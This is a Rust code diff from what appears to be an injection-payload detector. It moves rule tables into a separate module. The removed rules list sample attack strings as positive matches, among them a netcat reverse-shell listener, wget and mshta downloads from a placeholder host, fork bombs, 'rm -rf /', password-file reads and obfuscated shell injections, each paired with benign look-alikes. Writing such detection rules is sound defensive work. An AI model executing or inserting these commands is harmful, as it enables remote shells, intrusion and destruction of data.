@@ -3,6 +3,7 @@
 mod expand;
 mod names;
 mod pieced;
+mod rules;
 mod separator;
 mod start;
 mod unquote;
@@ -10,178 +11,15 @@ mod unquote;
 use self::expand::{assembled, bombs, expands_to_command, globs, is_piped_command};
 use self::names::{Command, command};
 use self::pieced::is_pieced_command;
+pub(super) use self::rules::RULES;
+use self::rules::{COMMAND, QUOTED, START};
 use self::separator::separator;
 use self::start::start;
 use self::unquote::{has_space, unquote};
 use super::{Input, Report, cut, find};
-use crate::payload::category::{Category, Severity};
 use crate::payload::field::Carrier;
 use crate::payload::gate::MAX_LINE_VALUE;
-use crate::payload::rules::{Carriers, Rule};
 use crate::payload::squeeze::{Bytes, is_word};
-
-static COMMAND: Rule = Rule::recognised(
-    "rce-command",
-    Category::Rce,
-    Severity::Critical,
-    &[
-        ";id",
-        "| cat /etc/x",
-        "&& whoami",
-        "$(id)",
-        "x`id`",
-        "; c'a't /x",
-        "|| ping -c 10 127.0.0.1",
-        "127.0.0.1; ls -la",
-        "a|/bin/ls -al",
-        "x;{cat,/x}",
-        "1;cat${IFS}/x",
-        "& dir c:\\",
-        "a & ipconfig /all",
-        "`echo id`",
-        "; find / -name x",
-        ";cat+/etc$u/hosts",
-        "; iptables -L",
-        "| ss -tlnp",
-        "a=c;b=at;$a$b /x",
-        "; exec id",
-        "; dd if=/dev/zero of=/x",
-        ";who$()ami",
-        "|w``hoami",
-        "/e?c/pa*wd",
-        "; /b?n/c?t x",
-        ":(){ :|:& };:",
-        "f() { f|f& };f",
-        "{id,}",
-        "{l,-lh}s",
-        "c{a,un}t",
-        "<(cmd)",
-        ";.shell nc",
-        "a;c$?at+/et$_c/x",
-        "a; sh$XX -c x",
-        "/usr/bin/[u]name -a",
-        "; python3.10 x.py",
-        ";cd /;cd etc",
-        ";. rm -rf /",
-        "|id||",
-        "ls||id",
-        "id|echo x",
-        "x\nsysteminfo, /c whoami",
-        "a|ls / > /x;",
-        "; telnetd &#",
-        "x'& id & echo 'y",
-        "$(tr '!-}' '\"-~'<<<[)",
-        "whoami&&id",
-        "|pfs -a /var/x|",
-    ],
-    &[
-        "salt; more pepper",
-        "R&D; find us",
-        "name|id|type",
-        "cats & dogs",
-        "this & that; sort of",
-        "a; who knows",
-        "1; 2; 3",
-        "id;name",
-        "a||id",
-        "x && y || z",
-        "bash 5.0 | zsh 5.8 | fish 3.1",
-        "use `ls` to list",
-        "kill; date; time",
-        "| id | name |\n|  1 | apple |",
-        "Error\n    at createError (app.js:1:2)",
-        "Traceback:\n  File \"app.py\", line 10",
-        "try to change the\npasswd, waiting a day",
-        "it fails\n \nps:linux is new to me",
-        "text &amp; more<br>",
-        "/* a comment */",
-        "/api/*/items/*",
-        "/a?b/c?d",
-        "*/5 * * * *",
-        "$a=1;$a++",
-        "a=1;b=2;$c",
-        "x; exec summary",
-        "ss; service",
-        "f() { return f | g }",
-        "{date,time}",
-        "a{2,}",
-        "amazon|echo dot",
-        "{1,}",
-        "{first,last}_name",
-        "chrome.exe; notepad.exe; calc.exe",
-        "your & id & name",
-        "<td>1.5%</td>\n</tr>",
-        "$(tr).find(\"td\")",
-        "name;;id;;date",
-        "photo & id & date of birth",
-        "listener first; handler `onClick` runs",
-        "ftpd|telnetd|sshd",
-        "find & cut & sort",
-        "| a -5 |",
-        "| and/or |",
-        "|make -j file|",
-        "|a -b|c|",
-        "<(a b)",
-        "(<x)",
-    ],
-);
-static START: Rule = Rule::recognised(
-    "rce-command-line",
-    Category::Rce,
-    Severity::Critical,
-    &[
-        "cat /etc/hosts",
-        "nc -lvvp 4444 -e /bin/sh",
-        "wget http://x.test/a",
-        "/bin/cat x",
-        "ping -c 3 127.0.0.1",
-        "powershell -enc aaaa",
-        "cmd /c dir",
-        "bash -i",
-        "/bin/ca? /etc/pass?d",
-        "who$()ami",
-        "{ls,-la}",
-        "/b${x}in/cat /x",
-        "/???$sdjhskdjh/??t$skdjfnskdj /???$osd/??ss??$skd",
-        "expr 1 + 2",
-        "${PATH:0:1}bin${PATH:0:1}ls",
-        "mshta http://x.test/a.hta",
-        "alias ls-al='ls -al'",
-        "expr 812  + 912",
-        "cd /;ls",
-        "find /etc -name x",
-        "ping`` 127.0.0.1",
-        "\\w\\h\\o\\a\\m\\i",
-        "$'\\167\\150\\157\\141\\155\\151'",
-    ],
-    &[
-        "cat food",
-        "ping me",
-        "wget is a tool",
-        "find /a good/ place",
-        "python 3",
-        "cat -- the animal",
-        "{ls, other}",
-        "curl up",
-        "alias a for b",
-        "expr 5 is a call",
-        "EXPR 101 - Drawing",
-        "expr 3 % of x",
-        "cd player",
-        "find / in a path",
-    ],
-)
-.only(Carriers::NO_HEADERS);
-static QUOTED: Rule = Rule::recognised(
-    "rce-command-in-text",
-    Category::Rce,
-    Severity::Medium,
-    &["use `cat /x` there"],
-    &["use `x` there", "the `date` field"],
-);
-
-/// The rules of this recogniser.
-pub(super) static RULES: &[&Rule] = &[&COMMAND, &START, &QUOTED];
 
 /// Whether a word in lower case is a command and hardly a word of a sentence.
 pub(in crate::payload) fn is_command(word: &[u8]) -> bool {
